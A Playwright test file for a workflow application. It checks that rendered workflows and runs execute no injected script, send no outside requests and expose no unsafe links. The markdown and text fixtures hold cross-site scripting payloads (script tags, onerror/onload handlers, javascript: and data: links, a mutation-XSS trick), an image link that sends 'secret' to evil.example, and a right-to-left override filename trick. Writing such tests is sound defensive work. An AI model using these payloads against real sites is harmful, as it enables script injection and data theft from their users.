/** Content that attacks whoever looks at it: names, questions, values and answers with scripts, addresses and tricks in them. */
import type { Page } from "@playwright/test";
import { expect, test } from "./fixtures/test";
import { importWorkflow } from "./fixtures/workflow";

const evil = "https://evil.example";
const markdown = [
  "# Report <script>window.hacked = 'script'</script>",
  "<img src=x onerror=\"window.hacked = 'img'\"><svg onload=\"window.hacked = 'svg'\"></svg>",
  "<iframe srcdoc=\"<script>parent.hacked = 'frame'</script>\"></iframe><form action=https://evil.example><button>Go</button></form>",
  "[run](javascript:window.hacked=1) [Run](JaVaScRiPt&colon;window.hacked=1) [page](data:text/html,<script>parent.hacked=1</script>)",
  `![secret](${evil}/?d=secret) ![ref][r] <div style="background:url(${evil}/css)">x</div> <link rel=stylesheet href=${evil}/l.css>`,
  `[r]: ${evil}/ref`,
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  "[good](https://example.com/) [mail](mailto:a@example.com) [inside](/settings)",
  `|${"a|".repeat(20)}\n|${"-|".repeat(20)}\n${`|${"cell|".repeat(20)}\n`.repeat(400)}`,
].join("\n\n");
const text = `"><img src=x onerror="window.hacked = 1"><script>window.hacked = 1</script>`;

function workflow(): object {
  const node = (id: string, type: string, x: number, config: object) => ({
    id,
    type,
    typeVersion: 1,
    title: `${id} ${text}`,
    position: { x, y: 0 },
    config,
  });
  const edge = (source: string, sourcePort: string, target: string) => ({
    id: `${source}.${sourcePort}>${target}.in`,
    source,
    sourcePort,
    target,
    targetPort: "in",
  });
  return {
    format: "windrose.workflow",
    formatVersion: 1,
    name: `Hostile ${text}`,
    description: text,
    nodes: [
      node("topic", "input", 0, { fields: [{ key: "topic", label: text, help: text, type: "long_text", required: true }] }),
      node("ask", "approval", 300, { title: "Publish \u202Egnp.exe?", body: "{{ input.topic }}" }),
      node("answer", "output", 600, { value: "{{ input.topic }}" }),
      node("memo", "note", 900, { text: markdown.slice(0, 300) }),
    ],
    edges: [edge("topic", "out", "ask"), edge("ask", "approved", "answer")],
    state: [],
    sampleInput: { topic: markdown },
  };
}

/** Everything that would show that something ran or left. */
function watch(page: Page, ownUrl: string): string[] {
  const harm: string[] = [];
  page.on("request", (request) => {
    if (/^(?:https?|wss?):/.test(request.url()) && !request.url().startsWith(ownUrl)) harm.push(request.url());
  });
  page.on("dialog", (dialog) => {
    harm.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("pageerror", (error) => harm.push(error.message));
  return harm;
}

async function expectNothingRan(page: Page): Promise<void> {
  expect(await page.evaluate(() => Reflect.get(window, "hacked"))).toBeUndefined();
  expect(
    await page
      .locator("iframe, object, embed, img[onerror], svg[onload], form[action^=http], a[href^='javascript' i], a[href^=data]")
      .count(),
  ).toBe(0);
}

test("nothing of it runs, nothing leaves the browser, and links lead outside or nowhere", async ({ page, request, baseURL }) => {
  test.setTimeout(120_000);
  const url = baseURL ?? "";
  const harm = watch(page, url);
  const workflowId = await importWorkflow(request, url, workflow());
  const started = await request.post(`${url}/api/workflows/${workflowId}/runs`, { data: { input: { topic: markdown } } });
  const { runId } = await started.json();

  for (const address of ["/", `/workflows/${workflowId}`, "/runs"]) {
    await page.goto(address);
    await expect(page.getByText("Hostile").first()).toBeVisible();
    await expectNothingRan(page);
  }

  await page.goto(`/workflows/${workflowId}/runs/${runId}`);
  const decision = page.getByTestId("decision");
  await expect(decision.getByRole("heading", { name: "Publish [U+202E]gnp.exe?" })).toBeVisible();
  await expect(decision.getByText("cell").first()).toBeVisible();
  const links = await decision.locator("a").evaluateAll((all) => all.map((link) => link.getAttribute("href")));
  expect(links.every((href) => /^(?:https:|mailto:)/.test(href ?? ""))).toBe(true);
  expect(links).toEqual(expect.arrayContaining(["https://example.com/", "mailto:a@example.com"]));
  await expectNothingRan(page);

  await page.getByRole("button", { name: "Approve" }).click();
  await expect(page.getByTestId("node-answer")).toContainText("succeeded", { timeout: 30_000 });
  for (const tab of ["Output", "Conversation", "Events"]) {
    await page.getByRole("tab", { name: tab }).first().click();
    await expectNothingRan(page);
  }
  expect(harm).toEqual([]);
});
